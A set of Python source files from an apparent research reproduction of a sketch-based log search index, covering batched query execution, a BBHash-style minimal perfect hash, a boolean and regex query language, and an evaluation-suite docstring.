            if r < 0:
                consumer.accept(np.zeros(0, dtype=np.int64))
            elif r not in seen:
                seen.add(r)
                unique_ranks.append(r)
            if consumer.should_stop():
                return consumer
        for r in unique_ranks:
            consumer.accept(sketch.decode_list(r))
            if consumer.should_stop():
                return consumer
        return consumer

    assert isinstance(sketch, MutableSketch)
    unique_ids: list = []
    seen_ids: set = set()
    for fp in fps.tolist():
        lid = sketch.list_id_for(fp)
        if lid is None:
            consumer.accept(np.zeros(0, dtype=np.int64))
        elif lid not in seen_ids:
            seen_ids.add(lid)
            unique_ids.append((lid, fp))
        if consumer.should_stop():
            return consumer
    for _lid, fp in unique_ids:
        consumer.accept(sketch.token_postings(fp))
        if consumer.should_stop():
            return consumer
    return consumer


def query_and(sketch, tokens) -> np.ndarray:
    c = execute_query(sketch, tokens, IntersectConsumer())
    res = c.result or set()
    return np.asarray(sorted(res), dtype=np.int64)


def query_or(sketch, tokens) -> np.ndarray:
    c = execute_query(sketch, tokens, UnionConsumer())
    return np.asarray(sorted(c.result), dtype=np.int64)
