"""Query execution (paper §4.4, Algorithm 3).

Works identically over mutable and immutable sketches; only ``isPresent`` /
``acquireList`` differ.  Consumers receive decoded posting lists (each unique
list decoded once) and may stop execution early — the boolean-AND consumer
stops as soon as its running intersection is empty.
"""

from __future__ import annotations

from typing import Any, Callable, Sequence

import numpy as np

from .hashing import fingerprint_tokens
from .immutable_sketch import ImmutableSketch
from .mutable_sketch import MutableSketch

#: query tokens: strings/bytes (fingerprinted on entry) or ready uint32 fps
TokenSeq = Sequence[str] | Sequence[bytes] | np.ndarray


class PostingsConsumer:
    """Algorithm 3's consumer interface."""

    def accept(self, postings: np.ndarray) -> None:  # pragma: no cover - interface
        raise NotImplementedError

    def should_stop(self) -> bool:
        return False


class UnionConsumer(PostingsConsumer):
    """OR semantics: union of all token posting lists."""

    def __init__(self) -> None:
        self.result: set[int] = set()

    def accept(self, postings: np.ndarray) -> None:
        self.result.update(postings.tolist())


class IntersectConsumer(PostingsConsumer):
    """AND semantics with early termination on empty intersection."""

    def __init__(self) -> None:
        self.result: set[int] | None = None

    def accept(self, postings: np.ndarray) -> None:
        s = set(postings.tolist())
        self.result = s if self.result is None else (self.result & s)

    def should_stop(self) -> bool:
        return self.result is not None and not self.result


def execute_query(
    sketch: Any, tokens: "TokenSeq", consumer: PostingsConsumer
) -> PostingsConsumer:
    """Algorithm 3 over either sketch type.

    ``tokens`` may be strings/bytes (fingerprinted here) or uint32 fps.
    A batch of one: ``execute_queries`` holds the single implementation.
    """
    return execute_queries(sketch, [tokens], lambda: consumer)[0]


def _to_fps(tokens: "TokenSeq") -> np.ndarray:
    if len(tokens) == 0:
        return np.zeros(0, dtype=np.uint32)
    if isinstance(tokens[0], (str, bytes)):
        return fingerprint_tokens(tokens)
    return np.asarray(tokens, dtype=np.uint32)


def execute_queries(
    sketch: Any,
    queries: "Sequence[TokenSeq]",
    consumer_factory: Callable[[], PostingsConsumer] = IntersectConsumer,
) -> list:
    """Batched Algorithm 3: many queries against one sketch, one probe.

    ``queries`` is a list of token lists (strings/bytes or uint32 fps).  All
    fingerprints of all queries are resolved in a single vectorized
    :meth:`ImmutableSketch.probe` call, and each unique posting-list rank is
    decoded exactly once *across the whole batch* — overlapping queries (the
    common case on the serve path: shared grams, shared attribute tokens)
    share the decode work.  Per-query semantics match ``execute_query``
    exactly, including early termination: a consumer that stops early skips
    its remaining lists, but never blocks other queries in the batch.

    Returns one consumer per query, in order.
    """
    consumers = [consumer_factory() for _ in queries]
    fps_per_query = [_to_fps(tokens) for tokens in queries]

    if isinstance(sketch, ImmutableSketch):
        sizes = [f.size for f in fps_per_query]
        all_fps = (
            np.concatenate(fps_per_query)
            if sum(sizes)
            else np.zeros(0, dtype=np.uint32)
        )
        all_ranks = (
            sketch.probe(all_fps) if all_fps.size else np.zeros(0, dtype=np.int64)
        )
        bounds = np.cumsum([0] + sizes)
        decoded: dict[int, np.ndarray] = {}  # rank → postings, batch-wide
        empty = np.zeros(0, dtype=np.int64)
        for qi, consumer in enumerate(consumers):
            ranks = all_ranks[bounds[qi] : bounds[qi + 1]]
            unique_ranks: list[int] = []
            seen: set[int] = set()
            stopped = False
            for r in ranks.tolist():
                if r < 0:
                    consumer.accept(empty)
                elif r not in seen:
                    seen.add(r)
                    unique_ranks.append(r)
                if consumer.should_stop():
                    stopped = True
                    break
            if stopped:
                continue
            for r in unique_ranks:
                postings = decoded.get(r)
                if postings is None:
                    postings = decoded[r] = sketch.decode_list(r)
                consumer.accept(postings)
                if consumer.should_stop():
                    break
        return consumers

    assert isinstance(sketch, MutableSketch)
    decoded_mut: dict = {}  # list identity → postings, batch-wide
    empty = np.zeros(0, dtype=np.int64)
    for fps, consumer in zip(fps_per_query, consumers):
        unique_ids: list = []
        seen_ids: set = set()
        stopped = False
        for fp in fps.tolist():
            lid = sketch.list_id_for(fp)
            if lid is None:
                consumer.accept(empty)
            elif lid not in seen_ids:
                seen_ids.add(lid)
                unique_ids.append((lid, fp))
            if consumer.should_stop():
                stopped = True
                break
        if stopped:
            continue
        for lid, fp in unique_ids:
            postings = decoded_mut.get(lid)
            if postings is None:
                postings = decoded_mut[lid] = sketch.token_postings(fp)
            consumer.accept(postings)
            if consumer.should_stop():
                break
    return consumers


def query_and(sketch: Any, tokens: "TokenSeq") -> np.ndarray:
    c = execute_query(sketch, tokens, IntersectConsumer())
    res = c.result or set()
    return np.asarray(sorted(res), dtype=np.int64)


def query_or(sketch: Any, tokens: "TokenSeq") -> np.ndarray:
    c = execute_query(sketch, tokens, UnionConsumer())
    return np.asarray(sorted(c.result), dtype=np.int64)
