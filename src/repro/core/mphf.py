"""BBHash-style minimal perfect hash function (Limasset et al. 2017).

Chosen by the paper (§4.2) for construction speed over minimum space.  Level
``i`` is a bit vector of ``gamma * n_i`` bits; keys whose level hash collides
move to level ``i+1``; stragglers after ``max_levels`` land in a plain sorted
fallback array.  Ranks use sampled popcount blocks (one u32 per 8 words), the
same layout the Trainium probe kernel walks.

Evaluation of an *absent* key may return an arbitrary index (that is what the
signature bits are for) or -1 when no level bit is set — a definite negative.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from .hashing import level_hash32, popcount64

GAMMA = 2.0
MAX_LEVELS = 24
RANK_BLOCK_WORDS = 8  # one u32 cumulative-popcount sample per 8 words (512 bits)

ABSENT = np.int64(-1)


@dataclass
class Mphf:
    """Constructed MPHF over a set of distinct uint32 fingerprints."""

    n_keys: int
    level_sizes: np.ndarray  # [L] u64, bits per level (multiple of 64)
    level_word_offsets: np.ndarray  # [L+1] u64, word offset of each level in `words`
    level_rank_offsets: np.ndarray  # [L+1] u64, #keys placed before level i
    words: np.ndarray  # concatenated level bit vectors, u64
    rank_samples: np.ndarray  # u32, cumulative popcount per RANK_BLOCK_WORDS, per level (concatenated, block-aligned with words)
    fallback_keys: np.ndarray  # sorted u32 fingerprints that fell through
    fallback_vals: np.ndarray  # u32 indices assigned to fallback keys

    @property
    def n_levels(self) -> int:
        return len(self.level_sizes)

    def bits_per_key(self) -> float:
        total = self.words.size * 64 + self.rank_samples.size * 32 + self.fallback_keys.size * 64
        return total / max(1, self.n_keys)

    # -- evaluation -----------------------------------------------------------

    def eval_batch(self, fps: np.ndarray) -> np.ndarray:
        """Vectorized evaluation: uint32 fingerprints → int64 indices (or -1).

        This is the reference semantics for ``kernels/sketch_probe``.
        """
        fps = np.asarray(fps, dtype=np.uint32)
        out = np.full(fps.shape, ABSENT, dtype=np.int64)
        pending = np.ones(fps.shape, dtype=bool)
        for lvl in range(self.n_levels):
            if not pending.any():
                break
            size = int(self.level_sizes[lvl])
            if size == 0:
                continue
            h = level_hash32(fps, lvl) % np.uint32(size)
            wbase = int(self.level_word_offsets[lvl])
            w = wbase + (h >> np.uint32(6))
            bit = (self.words[w] >> (h.astype(np.uint64) & np.uint64(63))) & np.uint64(1)
            hit = pending & (bit == 1)
            if hit.any():
                out[hit] = int(self.level_rank_offsets[lvl]) + self._rank(wbase, h[hit])
            pending &= ~hit
        if pending.any() and self.fallback_keys.size:
            idx = np.searchsorted(self.fallback_keys, fps[pending])
            idx = np.minimum(idx, self.fallback_keys.size - 1)
            found = self.fallback_keys[idx] == fps[pending]
            vals = np.where(found, self.fallback_vals[idx], np.uint32(0)).astype(np.int64)
            res = np.where(found, vals, ABSENT)
            out[pending] = res
        return out

    def _rank(self, wbase: int, h: np.ndarray) -> np.ndarray:
        """# of set bits before in-level bit position h (level at word wbase)."""
        word_idx = (h >> np.uint32(6)).astype(np.int64)
        block = word_idx // RANK_BLOCK_WORDS
        base = self.rank_samples[(wbase // RANK_BLOCK_WORDS) + block].astype(np.int64)
        start = block * RANK_BLOCK_WORDS
        acc = np.zeros(h.shape, dtype=np.int64)
        for j in range(RANK_BLOCK_WORDS):
            widx = start + j
            within = widx < word_idx
            if not within.any():
                continue
            acc += np.where(within, popcount64(self.words[wbase + np.minimum(widx, word_idx)]), 0).astype(np.int64)
        last_word = self.words[wbase + word_idx]
        inbit = h.astype(np.uint64) & np.uint64(63)
        mask = np.where(inbit == 0, np.uint64(0), (np.uint64(1) << inbit) - np.uint64(1))
        acc += popcount64(last_word & mask).astype(np.int64)
        return base + acc


def build_mphf(fps: np.ndarray, gamma: float = GAMMA, max_levels: int = MAX_LEVELS) -> Mphf:
    """Construct a BBHash MPHF over distinct uint32 fingerprints."""
    fps = np.unique(np.asarray(fps, dtype=np.uint32))
    n = int(fps.size)
    remaining = fps
    level_sizes: list[int] = []
    level_words: list[np.ndarray] = []
    placed_per_level: list[int] = []
    bits_per_block = 64 * RANK_BLOCK_WORDS
    for lvl in range(max_levels):
        if remaining.size == 0:
            break
        # POWER-OF-TWO level sizes: the device probe reduces `h mod size` to
        # `h & (size-1)` because the Trainium vector ALU has no exact u32
        # mod (the paper plays the same trick for CSC, §5.1.3).  Also ≥ one
        # rank block so popcount samples never straddle levels.
        size = max(bits_per_block, 1 << int(np.ceil(np.log2(max(2.0, gamma * remaining.size)))))
        h = level_hash32(remaining, lvl) % np.uint32(size)
        counts = np.bincount(h, minlength=size)
        unique_pos = counts == 1
        key_ok = unique_pos[h]
        words = np.zeros(size // 64, dtype=np.uint64)
        hp = h[key_ok].astype(np.uint64)
        np.bitwise_or.at(words, (hp >> np.uint64(6)).astype(np.int64), np.uint64(1) << (hp & np.uint64(63)))
        level_sizes.append(size)
        level_words.append(words)
        placed_per_level.append(int(key_ok.sum()))
        remaining = remaining[~key_ok]

    level_rank_offsets = np.zeros(len(level_sizes) + 1, dtype=np.uint64)
    np.cumsum(placed_per_level, out=level_rank_offsets[1:])
    level_word_offsets = np.zeros(len(level_sizes) + 1, dtype=np.uint64)
    np.cumsum([s // 64 for s in level_sizes], out=level_word_offsets[1:])
    all_words = (
        np.concatenate(level_words) if level_words else np.zeros(0, dtype=np.uint64)
    )

    # rank samples: per level, blocks of RANK_BLOCK_WORDS; levels are 8-word
    # aligned? level word counts are multiples of 1 (size multiple of 64) — pad
    # sampling per level by computing cumulative popcount *within* each level.
    samples = np.zeros(all_words.size // RANK_BLOCK_WORDS, dtype=np.uint32)
    for lvl in range(len(level_sizes)):
        w0 = int(level_word_offsets[lvl])
        w1 = int(level_word_offsets[lvl + 1])
        assert w0 % RANK_BLOCK_WORDS == 0 and w1 % RANK_BLOCK_WORDS == 0
        pc = popcount64(all_words[w0:w1]).astype(np.uint64)
        cum = np.concatenate([[np.uint64(0)], np.cumsum(pc)])
        blocks = np.arange(w0 // RANK_BLOCK_WORDS, w1 // RANK_BLOCK_WORDS)
        samples[blocks] = cum[(blocks - w0 // RANK_BLOCK_WORDS) * RANK_BLOCK_WORDS].astype(np.uint32)
    # fallback
    order = np.argsort(remaining, kind="stable")
    fb_keys = remaining[order]
    fb_vals = (int(level_rank_offsets[-1]) + np.arange(fb_keys.size, dtype=np.uint32)).astype(np.uint32)

    mphf = Mphf(
        n_keys=n,
        level_sizes=np.asarray(level_sizes, dtype=np.uint64),
        level_word_offsets=level_word_offsets,
        level_rank_offsets=level_rank_offsets,
        words=all_words,
        rank_samples=samples,
        fallback_keys=fb_keys,
        fallback_vals=fb_vals,
    )
    return mphf
