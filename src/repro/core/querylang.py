"""Boolean query AST and the Query→Plan→Result pipeline (docs/query_api.md).

The paper answers Multi-Set Multi-Membership-Queries (§4.4, Algorithm 3);
this module is the structured surface over that machinery.  A :class:`Query`
is a small boolean AST over three leaf predicates:

* :class:`Term` — the text occurs in the line *as a full token* (§5.1.1
  rules 1–5; planned as one single-token probe);
* :class:`Contains` — the text occurs in the line as an arbitrary substring
  (planned via its n-grams, rules 6–8);
* :class:`Source` — the line was ingested under this source/group name
  (exact: batches are single-source, so this rides the batch metadata).

combined with :class:`And`, :class:`Or` and :class:`Not`.  Execution is a
two-phase pipeline shared by every store:

1. **Plan** — each Term/Contains leaf becomes one planner *atom*
   (``(text, contains)``), batched through the store's ``plan()`` (Algorithm 3
   via ``execute_queries``: AND of the leaf's tokens with
   ``IntersectConsumer``).  :func:`candidate_sets` then combines the per-atom
   candidate-batch sets through the boolean structure: And→intersection
   (``IntersectConsumer`` semantics), Or→union (``UnionConsumer`` semantics),
   Not→complement over the known-batch universe.
2. **Result** — candidate batches are decompressed and every line is checked
   against the exact predicate (:func:`line_predicate`), yielding a
   :class:`SearchResult` with matched lines + per-stage counters/timings.

**NOT semantics.**  Sketch candidates over-approximate ("batch *may* contain
a match"), so a naive complement of the child's candidates would
under-approximate and drop true matches.  :func:`candidate_sets` therefore
tracks *two* sets per node — ``maybe`` (⊇ batches with ≥1 matching line) and
``all`` (⊆ batches where *every* line matches) — and resolves
``Not(q)`` as ``maybe = U \\ all(q)``, ``all = U \\ maybe(q)``: the
complement is always taken of the opposite bound, so the superset guarantee
survives negation and post-filtered results stay exact.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Callable, Iterable, Mapping

import numpy as np

#: planner atom: ``(text, contains)`` — the unit handed to ``LogStore.plan``
AtomKey = tuple[str, bool]

#: candidate batch ids for one query (superset of the true matching batches)
CandidateSet = list[int]


class Query:
    """Base of the boolean query AST.  Composable via ``&``, ``|``, ``~``.

    >>> q = Contains("error") & ~Term("debug")
    >>> q == And(Contains("error"), Not(Term("debug")))
    True
    """

    __slots__ = ()

    def __and__(self, other: "Query") -> "And":
        return And(self, other)

    def __or__(self, other: "Query") -> "Or":
        return Or(self, other)

    def __invert__(self) -> "Not":
        return Not(self)


@dataclass(frozen=True)
class Term(Query):
    """Full-token match: the text is one of the line's §5.1.1 rule-1–5
    tokens (``Term("error")`` matches ``"ERROR: boom"`` but not
    ``"errors: boom"`` — use :class:`Contains` for substrings).  Planned as
    a single-token index probe, the paper's term-query scenario."""

    text: str


@dataclass(frozen=True)
class Contains(Query):
    """Substring match: the text appears anywhere in the line (n-gram path)."""

    text: str


@dataclass(frozen=True)
class Source(Query):
    """Exact source/group filter over the batch ``group`` metadata."""

    name: str


@dataclass(frozen=True)
class Regex(Query):
    """Python-``re`` match anywhere in the *raw* line (``re.search`` truth).

    Planned by lowering to required literals: :func:`prefilter_query`
    extracts, from the pattern's AST, a DNF of substrings every match must
    contain (``core.regex_prefilter``), and those plan as ordinary
    :class:`Contains` atoms over the gram-posting index.  The compiled
    pattern itself runs only as the exact post-filter on candidate lines, so
    results are always exact regardless of how coarse the extraction was.
    Patterns with no usable literal (``.*``, ``\\d+``) keep exact semantics
    but degrade to a full scan, surfaced via ``SearchResult.fallback_scan``.

    Unlike Term/Contains the predicate is case-*sensitive* (unless
    ``flags`` includes ``re.IGNORECASE``) and sees the raw line — use
    :func:`line_matcher`, not :func:`line_predicate`, for exact evaluation.
    ``prefilter=False`` skips literal extraction entirely (every known batch
    becomes a candidate) — the forced-scan baseline used by eval/benchmarks.

    >>> matches_line(Regex(r"conn\\d+ reset"), "WARN: conn42 reset by peer")
    True
    >>> matches_line(Regex(r"conn\\d+ reset"), "conn reset")
    False
    >>> atoms(Regex("ERROR|WARN"))          # planned via extracted literals
    [('error', True), ('warn', True)]
    >>> atoms(Regex(r"\\d+"))                # no usable literal: scan sentinel
    [('', True)]
    """

    pattern: str
    flags: int = 0
    #: False disables literal extraction (forced-scan baseline for eval)
    prefilter: bool = True

    def __post_init__(self) -> None:
        re.compile(self.pattern, self.flags)  # reject bad patterns at build


@lru_cache(maxsize=1024)
def _regex_lowered(pattern: str, flags: int, prefilter: bool) -> Query:
    if prefilter:
        from .regex_prefilter import analyze  # deferred: parser is heavy-ish

        dnf = analyze(pattern, flags).dnf
    else:
        dnf = None
    if dnf is None:
        # no usable prefilter: one empty Contains atom — zero guaranteed
        # tokens, so every store reports it unbounded and candidates become
        # the whole known universe (the documented fallback-scan path)
        return Contains("")
    # () = no branch survived (each required a "\n"): matches no line
    return Or(*[And(*[Contains(lit) for lit in branch]) for branch in dnf])


def prefilter_query(query: Regex) -> Query:
    """The And/Or-of-``Contains`` plan a :class:`Regex` lowers to.

    This is only the *candidate* side: the planner walks the lowered tree,
    while exact evaluation always runs the compiled pattern.  ``Contains("")``
    is the degenerate result for unextractable patterns; ``Or()`` (matches
    nothing) appears when every literal branch required a newline.
    """
    return _regex_lowered(query.pattern, query.flags, query.prefilter)


@dataclass(frozen=True, init=False)
class And(Query):
    """Every child matches the line.  ``And()`` matches everything."""

    children: tuple[Query, ...]

    def __init__(self, *children: Query) -> None:
        object.__setattr__(self, "children", tuple(children))


@dataclass(frozen=True, init=False)
class Or(Query):
    """At least one child matches the line.  ``Or()`` matches nothing."""

    children: tuple[Query, ...]

    def __init__(self, *children: Query) -> None:
        object.__setattr__(self, "children", tuple(children))


@dataclass(frozen=True)
class Not(Query):
    """The child does not match the line."""

    child: Query


def as_query(obj: "Query | str") -> Query:
    """Coerce user input to a :class:`Query`; bare strings mean Contains."""
    if isinstance(obj, Query):
        return obj
    if isinstance(obj, str):
        return Contains(obj)
    raise TypeError(f"not a Query: {obj!r}")


# -- plan phase: leaf atoms + candidate-set algebra --------------------------------


def atoms(query: Query) -> list[AtomKey]:
    """Unique Term/Contains leaves in deterministic (first-seen) order."""
    out: list[AtomKey] = []
    seen: set[AtomKey] = set()

    def walk(q: Query) -> None:
        # keyed on lowercased text: planning lowercases anyway, so
        # case-variant leaves must share one probe
        if isinstance(q, Term):
            key = (q.text.lower(), False)
        elif isinstance(q, Contains):
            key = (q.text.lower(), True)
        elif isinstance(q, Regex):
            walk(prefilter_query(q))  # plans as its extracted literals
            return
        elif isinstance(q, (And, Or)):
            for c in q.children:
                walk(c)
            return
        elif isinstance(q, Not):
            walk(q.child)
            return
        else:  # Source carries no planner atom
            return
        if key not in seen:
            seen.add(key)
            out.append(key)

    walk(query)
    return out


def merged_atoms(queries: Iterable[Query]) -> list[AtomKey]:
    """Deduplicated atoms across a whole query batch (one ``plan()`` call)."""
    out: list[AtomKey] = []
    seen: set[AtomKey] = set()
    for q in queries:
        for key in atoms(q):
            if key not in seen:
                seen.add(key)
                out.append(key)
    return out


def candidate_sets(
    query: Query,
    atom_sets: Mapping[AtomKey, frozenset[int]],
    universe: frozenset[int],
    source_set: Callable[[str], frozenset[int]],
) -> tuple[frozenset[int], frozenset[int]]:
    """Two-sided candidate algebra: returns ``(maybe, all)`` batch-id sets.

    ``maybe`` ⊇ batches containing at least one line matching ``query``;
    ``all``  ⊆ batches where *every* line matches ``query``.

    Leaves: a planner atom contributes ``(atom_sets[key], ∅)`` — the sketch
    promises no false negatives but proves nothing about whole batches; a
    :class:`Source` leaf is exact in both directions because batches are
    single-source.  ``Not`` swaps and complements the bounds (see module
    docstring), which keeps ``maybe`` a superset under arbitrary nesting.
    """
    if isinstance(query, Term):
        return atom_sets[(query.text.lower(), False)], frozenset()
    if isinstance(query, Contains):
        return atom_sets[(query.text.lower(), True)], frozenset()
    if isinstance(query, Source):
        s = source_set(query.name)
        return s, s
    if isinstance(query, Regex):
        # candidates come from the literal lowering; `all` stays ∅ because
        # literal containment never proves a whole batch matches the regex
        m, _ = candidate_sets(prefilter_query(query), atom_sets, universe, source_set)
        return m, frozenset()
    if isinstance(query, And):
        if not query.children:
            return universe, universe
        maybe = all_ = None
        for c in query.children:
            m, a = candidate_sets(c, atom_sets, universe, source_set)
            maybe = m if maybe is None else maybe & m
            all_ = a if all_ is None else all_ & a
        return maybe, all_
    if isinstance(query, Or):
        maybe, all_ = frozenset(), frozenset()
        for c in query.children:
            m, a = candidate_sets(c, atom_sets, universe, source_set)
            maybe, all_ = maybe | m, all_ | a
        return maybe, all_
    if isinstance(query, Not):
        m, a = candidate_sets(query.child, atom_sets, universe, source_set)
        return universe - a, universe - m
    raise TypeError(f"unknown query node: {query!r}")


def candidate_bits(
    query: Query,
    atom_bits: Mapping[AtomKey, np.ndarray],
    known_mask: np.ndarray,
    source_bits: Callable[[str], np.ndarray],
) -> tuple[np.ndarray, np.ndarray]:
    """:func:`candidate_sets` over packed-uint64 bitsets (the hot path).

    Same two-sided ``(maybe, all)`` contract, but candidate sets stay packed
    (``core.bitset`` layout, one bit per batch id up to the store's
    ``max_batches``) so And/Or are single vectorized word ops and Not is a
    masked complement — ``known_mask & ~x`` complements against the known-id
    universe, never inventing ids no batch owns.  ``atom_bits`` values and
    ``known_mask`` must share one width; entries are already clamped to the
    known universe by the planner.
    """
    zeros = np.zeros_like(known_mask)
    if isinstance(query, Term):
        return atom_bits[(query.text.lower(), False)], zeros
    if isinstance(query, Contains):
        return atom_bits[(query.text.lower(), True)], zeros
    if isinstance(query, Source):
        s = source_bits(query.name)
        return s, s
    if isinstance(query, Regex):
        m, _ = candidate_bits(prefilter_query(query), atom_bits, known_mask, source_bits)
        return m, zeros
    if isinstance(query, And):
        if not query.children:
            return known_mask, known_mask
        maybe = all_ = None
        for c in query.children:
            m, a = candidate_bits(c, atom_bits, known_mask, source_bits)
            maybe = m if maybe is None else maybe & m
            all_ = a if all_ is None else all_ & a
        return maybe, all_
    if isinstance(query, Or):
        maybe, all_ = zeros, zeros
        for c in query.children:
            m, a = candidate_bits(c, atom_bits, known_mask, source_bits)
            maybe, all_ = maybe | m, all_ | a
        return maybe, all_
    if isinstance(query, Not):
        m, a = candidate_bits(query.child, atom_bits, known_mask, source_bits)
        return known_mask & ~a, known_mask & ~m
    raise TypeError(f"unknown query node: {query!r}")


# -- result phase: exact line-level evaluation -------------------------------------


def line_predicate(query: Query) -> Callable[[str, str], bool]:
    """Compile the AST to ``pred(line_lower, source) -> bool``.

    ``line_lower`` must be pre-lowercased by the caller (once per line, shared
    by every node).  ``Contains`` is lowercase substring containment (the
    legacy post-filter); ``Term`` is full-token membership under §5.1.1 rules
    1–5 — the semantics its single-token index probe over-approximates (a
    substring pre-check keeps the common reject path tokenization-free).
    Every candidate phase is a pure optimization: leaves differ in *how* the
    index narrows batches, never in which lines finally match.

    :class:`Regex` is rejected here: its truth depends on the raw line's
    case, which the lowered contract has already destroyed — use
    :func:`line_matcher` instead.
    """
    if isinstance(query, Regex):
        raise TypeError(
            "Regex has no lowered line predicate (it is case-sensitive); "
            "use line_matcher(query), which receives the raw line"
        )
    if isinstance(query, Term):
        # lazy import: logstore imports this module at package init
        from ..logstore.tokenizer import term_membership

        text = query.text.lower()
        member = term_membership(text)
        return lambda line, source: text in line and member(line)
    if isinstance(query, Contains):
        text = query.text.lower()
        return lambda line, source: text in line
    if isinstance(query, Source):
        name = query.name
        return lambda line, source: source == name
    if isinstance(query, And):
        preds = [line_predicate(c) for c in query.children]
        return lambda line, source: all(p(line, source) for p in preds)
    if isinstance(query, Or):
        preds = [line_predicate(c) for c in query.children]
        return lambda line, source: any(p(line, source) for p in preds)
    if isinstance(query, Not):
        p = line_predicate(query.child)
        return lambda line, source: not p(line, source)
    raise TypeError(f"unknown query node: {query!r}")


def _matcher(query: Query) -> Callable[[str, str, str], bool]:
    """Compile to ``m(line, line_lower, source)`` over the *raw* line.

    The superset of :func:`line_predicate` that also evaluates
    :class:`Regex` (which must see original case).  ``line_lower`` is the
    caller's one shared lowering of ``line`` — Term/Contains read it, Regex
    and Source ignore it.
    """
    if isinstance(query, Regex):
        rx = re.compile(query.pattern, query.flags)
        return lambda line, lower, source: rx.search(line) is not None
    if isinstance(query, Term):
        # lazy import: logstore imports this module at package init
        from ..logstore.tokenizer import term_membership

        text = query.text.lower()
        member = term_membership(text)
        return lambda line, lower, source: text in lower and member(lower)
    if isinstance(query, Contains):
        text = query.text.lower()
        return lambda line, lower, source: text in lower
    if isinstance(query, Source):
        name = query.name
        return lambda line, lower, source: source == name
    if isinstance(query, And):
        ms = [_matcher(c) for c in query.children]
        return lambda line, lower, source: all(m(line, lower, source) for m in ms)
    if isinstance(query, Or):
        ms = [_matcher(c) for c in query.children]
        return lambda line, lower, source: any(m(line, lower, source) for m in ms)
    if isinstance(query, Not):
        m = _matcher(query.child)
        return lambda line, lower, source: not m(line, lower, source)
    raise TypeError(f"unknown query node: {query!r}")


def _wants_lower(query: Query) -> bool:
    """Whether :func:`_matcher` will read the lowered line for this AST."""
    if isinstance(query, (Term, Contains)):
        return True
    if isinstance(query, (And, Or)):
        return any(_wants_lower(c) for c in query.children)
    if isinstance(query, Not):
        return _wants_lower(query.child)
    return False  # Regex and Source read the raw line / metadata only


def line_matcher(query: "Query | str") -> Callable[[str, str], bool]:
    """Compile the AST to ``pred(raw_line, source) -> bool`` — the exact
    post-filter contract for *raw* (case-preserved) lines.

    Handles every node including :class:`Regex`; the line is lowercased at
    most once per call, and not at all for Regex/Source-only queries.  This
    supersedes ``line_predicate(q)(line.lower(), src)`` at the filter call
    sites, which had to lowercase even when no node cared.
    """
    q = as_query(query)
    m = _matcher(q)
    if _wants_lower(q):
        return lambda line, source="": m(line, line.lower(), source)
    return lambda line, source="": m(line, "", source)


def matches_line(query: Query, line: str, source: str = "") -> bool:
    """Exact predicate on one raw line (convenience over line_matcher).

    ``Term`` is full-token membership, ``Contains`` arbitrary substring —
    both case-insensitive; ``Regex`` is ``re.search`` on the raw line;
    ``Source`` compares the ingest source exactly.

    >>> matches_line(Term("error"), "ERROR: disk full")
    True
    >>> matches_line(Term("error"), "errors: disk full")   # not a full token
    False
    >>> matches_line(Contains("rror"), "ERROR: disk full")
    True
    >>> matches_line(And(Contains("disk"), Source("db")), "disk ok", "web")
    False
    >>> matches_line(Regex(r"^\\[E\\d{3}\\]"), "[E042] boot failed")
    True
    >>> matches_line(Regex("error"), "ERROR: disk full")   # case-sensitive
    False
    >>> matches_line(Regex("error", re.IGNORECASE), "ERROR: disk full")
    True
    """
    return line_matcher(query)(line, source)


def needs_universe(query: Query) -> bool:
    """True if :func:`candidate_sets` will read ``universe`` for this AST
    (a ``Not`` anywhere, or an empty ``And``) — lets callers skip building
    the known-batch set on Not-free workloads."""
    if isinstance(query, Not):
        return True
    if isinstance(query, Regex):
        return needs_universe(prefilter_query(query))
    if isinstance(query, And):
        return not query.children or any(needs_universe(c) for c in query.children)
    if isinstance(query, Or):
        return any(needs_universe(c) for c in query.children)
    return False


def needs_sources(query: Query) -> bool:
    """True if :func:`candidate_sets` will call ``source_set`` for this AST."""
    if isinstance(query, Source):
        return True
    if isinstance(query, (And, Or)):
        return any(needs_sources(c) for c in query.children)
    if isinstance(query, Not):
        return needs_sources(query.child)
    return False


# -- results ------------------------------------------------------------------------


@dataclass
class SearchResult:
    """Outcome of one structured search: matched lines + pipeline counters.

    ``timings["plan_s"]`` is this query's amortized share of the batch's one
    planning pass (atoms are planned together across a ``search_many`` batch,
    so summing ``plan_s`` over the batch recovers the pass once, not
    ``len(batch)`` times); ``timings["batch_plan_s"]`` is that full pass;
    ``verify_s`` is this query's own decompress + post-filter time.

    ``fallback_scan`` is True when the store's planner could not bound some
    Term/Contains leaf, so the query degraded to scanning every known batch.
    The criterion is store-specific (``LogStore.unbounded_atoms``): for
    gram-indexed stores it's a leaf with no guaranteed-indexed token (e.g.
    ``Contains("ab")`` — boundary runs too short for any rule-6–8 gram); the
    inverted lexicon instead degrades on run-crossing substrings; the scan
    store on everything.  Results stay exact; only the search-space reduction
    is lost.
    """

    query: Query
    lines: list[str]
    n_candidate_batches: int
    n_verified_batches: int
    timings: dict[str, float] = field(default_factory=dict)
    fallback_scan: bool = False
    #: candidate lines examined during verify (decompressed batch lines)
    n_lines_scanned: int = 0
    #: lines that needed the exact per-line predicate — the rest were decided
    #: by the vectorized byte-level prefilter (0 ⇒ fully vectorized verify)
    n_lines_exact: int = 0

    def __len__(self) -> int:
        return len(self.lines)


__all__ = [
    "And",
    "AtomKey",
    "CandidateSet",
    "Contains",
    "Not",
    "Or",
    "Query",
    "Regex",
    "SearchResult",
    "Source",
    "Term",
    "as_query",
    "atoms",
    "candidate_bits",
    "candidate_sets",
    "line_matcher",
    "line_predicate",
    "matches_line",
    "merged_atoms",
    "needs_sources",
    "needs_universe",
    "prefilter_query",
]
