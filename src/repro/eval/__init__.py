"""Paper-faithful evaluation suite (paper §6; see docs/results.md).

One harness measures the paper's three headline claims — storage overhead,
false-positive rate, and query throughput — for every registered store over
the *same* seeded datasets and workloads:

* :mod:`repro.eval.workloads` — seeded Multi-Set Multi-Membership query
  workload generators with controlled selectivity tiers, hit/miss ratios and
  boolean-AST shapes (shared with ``benchmarks/``, so benchmark numbers and
  the results report can never disagree);
* :mod:`repro.eval.harness` — builds persistent stores, measures
  ``storage_breakdown()`` / FPR / throughput, writes JSON rows to
  ``experiments/paper/``;
* :mod:`repro.eval.report` — renders ``docs/results.md`` from those JSON
  rows (a pure function of the JSON, so CI can regenerate-and-diff).

Run it:

    PYTHONPATH=src python -m repro.eval --smoke        # CI-sized
    PYTHONPATH=src python -m repro.eval --full         # paper-shaped sweep
    PYTHONPATH=src python -m repro.eval --check-stale  # report ↔ JSON drift
"""

